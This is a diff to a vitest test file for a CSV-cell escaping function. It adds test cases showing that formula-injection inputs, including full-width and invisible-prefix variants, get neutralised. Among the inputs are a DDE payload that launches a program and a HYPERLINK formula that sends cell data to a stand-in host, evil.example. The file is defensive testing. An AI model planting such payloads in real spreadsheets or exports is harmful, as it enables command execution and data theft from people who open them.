@@ -3,14 +3,34 @@ import Papa from 'papaparse';
 import { expect, test } from 'vitest';
 import { csvCell, csvLine } from '../../../shared/record/csv-cell.ts';
 
-// OWASP, "CSV Injection": cells beginning with = + - @, tab or carriage return are run as formulas.
+// OWASP, "CSV Injection": cells beginning with = + - @, their full-width forms, tab, carriage return or line feed are run as
+// formulas; and field separators and quotes have to be inside quotes.
 test.each([
   ['=1+1', "'=1+1"],
   ['+SUM(A1)', "'+SUM(A1)"],
   ['@cmd', "'@cmd"],
   ['-2+3', "'-2+3"],
   ['=A,B', `"'=A,B"`],
-  ['\t=1', "'\t=1"],
+  ['\t=1', `"'\t=1"`],
+  ['\rx', `"'\rx"`],
+  ['\nx', `"'\nx"`],
+  [' =1+1', "' =1+1"],
+  ['\u00a0=1', "'\u00a0=1"],
+  ['\u3000@x', "'\u3000@x"],
+  ['\u200b=1', "'\u200b=1"],
+  ['\ufeff=1', "'\ufeff=1"],
+  ['\u0000=1', "'\u0000=1"],
+  ['＝1+1', "'＝1+1"],
+  ['＋1', "'＋1"],
+  ['－2+3', "'－2+3"],
+  ['＠SUM(A1)', "'＠SUM(A1)"],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
+  ['-1+cmd', "'-1+cmd"],
+  ['x;=1+1', '"x;=1+1"'],
+  ['x\t=1+1', '"x\t=1+1"'],
+  ['x\r\n=1+1', '"x\r\n=1+1"'],
+  ['-1e-7', '-1e-7'],
   ['-12.50', '-12.50'],
   ['-12', '-12'],
   ['a,b', '"a,b"'],
